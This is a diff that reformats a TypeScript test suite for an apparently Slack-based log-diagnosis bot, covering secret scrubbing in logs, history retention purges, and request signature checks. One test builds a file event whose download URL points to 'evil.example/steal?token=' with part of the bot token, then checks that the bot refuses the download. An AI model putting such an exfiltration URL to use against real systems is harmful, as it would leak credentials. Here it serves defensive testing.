@@ -12,14 +12,7 @@ import { check, inlineScan } from '../src/check.js';
 import { loadConfig } from '../src/config.js';
 import { createLogger } from '../src/log.js';
 import { purgeOnce, startRetention } from '../src/retention.js';
-import {
-  get,
-  messageEvent,
-  postEvent,
-  postSlashCommand,
-  slackError,
-  slashCommand,
-} from './support/index.js';
+import { get, messageEvent, postEvent, postSlashCommand, slackError, slashCommand } from './support/index.js';
 import { startTestBot, type StartBotOptions, type TestBot } from './support/bot.js';
 import { waitUntil } from './support/wait.js';
 import { port } from './support/storage.js';
@@ -31,7 +24,8 @@ const FORBIDDEN = [BOT_TOKEN, APP_TOKEN, SIGNING_SECRET, 'Bearer xoxb', 'Bearer 
 
 /** A paste: three lines that match, around a line that matches nothing and must never be stored. */
 const CANARY = 'ZEBRA-CANARY-7f3a9c-this-line-matches-no-rule hostname=secret-host.corp.example password=hunter2';
-const MATCHED = '2008-08-12\t09:15:41:203\t 940\tf54\tPT\tWARNING: SyncUpdates failure, error = 0x8024400E, soap client error = 7, soap error code = 400, HTTP status code = 200';
+const MATCHED =
+  '2008-08-12\t09:15:41:203\t 940\tf54\tPT\tWARNING: SyncUpdates failure, error = 0x8024400E, soap client error = 7, soap error code = 400, HTTP status code = 200';
 const PASTE = [
   '2008-08-12\t09:15:41:156\t 940\tf54\tPT\t+++++++++++  PT: Synchronizing server updates  +++++++++++',
   CANARY,
@@ -106,7 +100,23 @@ describe('secrets never reach the logs', () => {
       await fake.waitFor('chat.postMessage', (c) => c.body.thread_ts === brokenTs, 5000);
       const offSlackTs = nextTs();
       const downloadsBefore = fake.fileHost.downloads.length;
-      await postEvent(events, SIGNING_SECRET, messageEvent({ channel: 'D0SECRET1', ts: offSlackTs, text: '', files: [{ ...file, id: 'F0EVIL', url_private_download: `http://evil.example:${new URL(r.url).port}/steal?token=${BOT_TOKEN.slice(0, 5)}`, url_private: undefined }] }));
+      await postEvent(
+        events,
+        SIGNING_SECRET,
+        messageEvent({
+          channel: 'D0SECRET1',
+          ts: offSlackTs,
+          text: '',
+          files: [
+            {
+              ...file,
+              id: 'F0EVIL',
+              url_private_download: `http://evil.example:${new URL(r.url).port}/steal?token=${BOT_TOKEN.slice(0, 5)}`,
+              url_private: undefined,
+            },
+          ],
+        }),
+      );
       await fake.waitFor('chat.postMessage', (c) => c.body.thread_ts === offSlackTs, 5000);
       expect(fake.fileHost.downloads.length).toBe(downloadsBefore);
 
@@ -127,7 +137,10 @@ describe('secrets never reach the logs', () => {
 
       // Logged objects that carry secrets in odd places are scrubbed too.
       const logger = createLogger('debug', { write: (l: string) => void r.rawLogs.push(l) });
-      logger.debug({ headers: { Authorization: `Bearer ${BOT_TOKEN}` }, nested: { deeper: { token: BOT_TOKEN, text: `a ${APP_TOKEN} b` } } }, `sending ${BOT_TOKEN}`);
+      logger.debug(
+        { headers: { Authorization: `Bearer ${BOT_TOKEN}` }, nested: { deeper: { token: BOT_TOKEN, text: `a ${APP_TOKEN} b` } } },
+        `sending ${BOT_TOKEN}`,
+      );
       logger.error({ err: new Error(`call failed with Bearer ${BOT_TOKEN}`) }, 'failure');
       logger.warn({ url: `https://files.slack.com/x?token=${BOT_TOKEN}` }, 'odd url');
 
@@ -230,7 +243,12 @@ describe('HISTORY_DAYS: old diagnoses are purged', () => {
   });
 
   const record = async (at: string) =>
-    (await check({ inputs: [{ chunks: [Buffer.from(PASTE)] }], lang: 'en', now: new Date(at), mayRecordFacts: true, from: { origin: 'cli' } }, { storage: port(store), scan: inlineScan(1 << 20) })).diagnosisId!;
+    (
+      await check(
+        { inputs: [{ chunks: [Buffer.from(PASTE)] }], lang: 'en', now: new Date(at), mayRecordFacts: true, from: { origin: 'cli' } },
+        { storage: port(store), scan: inlineScan(1 << 20) },
+      )
+    ).diagnosisId!;
 
   it('defaults to 365 days; bad values are one clear line', () => {
     expect(loadConfig({}).historyDays).toBe(365);
@@ -269,10 +287,15 @@ describe('HISTORY_DAYS: old diagnoses are purged', () => {
     let ticks = 0; // each purge reads the clock once
     await record('2028-01-01T00:00:00Z');
     expect(store.diagnosisCount()).toBeGreaterThan(0);
-    const retention = startRetention({ store: port(store), historyDays: 365, clock: () => {
+    const retention = startRetention({
+      store: port(store),
+      historyDays: 365,
+      clock: () => {
         ticks++;
         return now;
-      }, everyMs: 30 });
+      },
+      everyMs: 30,
+    });
     expect(ticks).toBe(1); // purged at start (the clock read), before any tick of the schedule
     await waitUntil('the purge at start', () => store.diagnosisCount() === 0, 2000); // everything was from before 2029
     await record('2029-12-01T00:00:00Z');
@@ -286,10 +309,15 @@ describe('HISTORY_DAYS: old diagnoses are purged', () => {
     // Proof that time for more purges has passed: a second retention on the same schedule, started after the stop,
     // has purged twice (its clock is so early that it deletes nothing).
     let controlTicks = 0;
-    const control = startRetention({ store: port(store), historyDays: 365, clock: () => {
+    const control = startRetention({
+      store: port(store),
+      historyDays: 365,
+      clock: () => {
         controlTicks++;
         return new Date('2000-01-01T00:00:00Z');
-      }, everyMs: 30 });
+      },
+      everyMs: 30,
+    });
     try {
       await waitUntil('two purges of the control', () => controlTicks >= 3, 2000); // its purge at start, then two ticks
     } finally {
@@ -322,12 +350,21 @@ describe('request authenticity', () => {
     const body = JSON.stringify(messageEvent({ channel: 'C0REPLAY', text: PASTE }));
     const { signedHeaders } = await import('./support/index.js');
     const old = signedHeaders(SIGNING_SECRET, body, now - 10);
-    const res = await fetch(events, { method: 'POST', headers: { 'content-type': 'application/json', 'x-slack-signature': old['x-slack-signature'], 'x-slack-request-timestamp': String(now) }, body });
+    const res = await fetch(events, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', 'x-slack-signature': old['x-slack-signature'], 'x-slack-request-timestamp': String(now) },
+      body,
+    });
     expect(res.status).toBe(401);
     await r.bot.inbox.idle();
     const channels = new Set(r.fake.callsTo('chat.postMessage').map((c) => c.body.channel));
     expect([...channels].sort()).toEqual(['C0SKEW1', 'C0SKEW2']);
-    expect(r.store.history({ limit: 10 }).map((h) => h.channelId).sort()).toEqual(['C0SKEW1', 'C0SKEW2']);
+    expect(
+      r.store
+        .history({ limit: 10 })
+        .map((h) => h.channelId)
+        .sort(),
+    ).toEqual(['C0SKEW1', 'C0SKEW2']);
     expect((await get(`${r.url}/healthz`)).status).toBe(200);
   });
 });
